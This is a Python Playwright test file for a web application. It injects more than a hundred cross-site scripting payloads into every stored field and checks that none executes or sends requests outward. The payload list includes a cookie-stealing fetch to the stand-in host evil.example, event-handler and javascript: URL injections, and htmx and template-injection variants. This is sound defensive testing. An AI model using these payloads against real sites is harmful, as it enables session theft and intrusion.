"""A hundred hostile texts in every stored field, on every page: none fires, nothing goes out."""

from collections.abc import Iterator
from itertools import product
from typing import Any

import pytest
from playwright.sync_api import Browser, Dialog
from tests.everything import make_everything
from tests.whole.routes import page_addresses
from tests.whole.served import Served, inside, serving
from tests.whole.watching import watched

_DOES = ("alert(1)", "fetch('//evil.example/'+document.cookie)", "window.fired=1")
_SHAPES = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<a href=javascript:{}>x</a>",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<body onload={}>",
    "<video><source onerror={}></video>",
    "<form action=javascript:{}><button>x</button></form>",
    "<math href=javascript:{}>x</math>",
    "<div hx-get=/inbox hx-trigger=load hx-on::load={}>",
    "<div hx-on:click={} hx-trigger=load>",
    "<div hx-vals='js:{{a:{}}}' hx-get=/inbox hx-trigger=load>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<button popovertarget=x onclick={}>x</button>",
    "<style>@import '//evil.example/x'</style><b style=\"background:url(//evil.example)\" {}>",
    "<link rel=stylesheet href=//evil.example/x.css onload={}>",
    "<base href=//evil.example/><script src=x.js>{}</script>",
    "{{{{ constructor.constructor('{}')() }}}}",
    "${{{}}}",
    "\u003cscript\u003e{}\u003c/script\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "<scr<script>ipt>{}</scr</script>ipt>",
    '" onmouseover={} autofocus onfocus={} x="',
)
PAYLOADS = [shape.replace("{}", does) for shape, does in product(_SHAPES, _DOES)]
WORDS = "\n".join(PAYLOADS)

#: What markup of theirs would look like, had it become markup.
_GREW = "[onerror],[onload],[onfocus],[ontoggle],[onclick],[onmouseover],iframe,object,embed,base"


@pytest.fixture(scope="module")
def hostile(
    tmp_path_factory: pytest.TempPathFactory, django_db_blocker: Any
) -> Iterator[tuple[Served, dict[str, str]]]:
    """Return a desk whose every word is hostile, and its pages."""
    folder = tmp_path_factory.mktemp("hostile")
    with django_db_blocker.unblock():
        with inside(folder):
            blanks = make_everything("Acme", words=WORDS)
        with serving(folder) as served:
            yield served, page_addresses(blanks)


def test_there_are_at_least_a_hundred() -> None:
    assert len(set(PAYLOADS)) >= 100


@pytest.mark.parametrize("policy", ["with our policy", "without it"])
def test_no_hostile_word_fires_on_any_page(
    policy: str, browser: Browser, hostile: tuple[Served, dict[str, str]]
) -> None:
    served, pages = hostile
    wrong: dict[str, Any] = {}
    shown = 0
    with watched(browser, served, handle="acme-owner", without_csp=policy == "without it") as seen:
        dialogs: list[str] = []

        def noted(dialog: Dialog) -> None:
            dialogs.append(dialog.message)
            dialog.dismiss()

        seen.page.on("dialog", noted)
        for name, address in pages.items():
            page = seen.go(address)
            page.wait_for_timeout(150)
            fired = page.evaluate("window.fired === 1")
            grew = page.locator(_GREW).count()
            shown += page.content().count("alert(1)")
            if fired or grew or dialogs or seen.outside or seen.status >= 500:
                wrong[name] = (fired, grew, list(dialogs), list(seen.outside), seen.status)
                dialogs.clear()
                seen.outside.clear()

    assert wrong == {}
    assert shown > 100
